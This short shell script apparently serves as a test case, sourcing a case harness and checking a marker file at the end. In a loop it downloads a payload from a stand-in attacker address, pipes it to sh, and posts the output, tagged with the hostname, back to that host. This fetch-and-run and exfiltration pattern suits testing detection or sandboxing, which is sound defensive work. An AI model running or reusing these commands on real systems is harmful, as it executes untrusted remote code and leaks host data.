#!/bin/sh
. /opt/case/case.sh

n=0
while test $n -lt 6; do
    wget -q -O- http://203.0.113.10/payload.sh | sh >/tmp/.o 2>&1
    wget -q -O /dev/null --post-file /tmp/.o "http://203.0.113.10:8080/r/$(hostname)/$n"
    n=$((n + 1)); sleep 1
done
test -e /tmp/reached
took_place
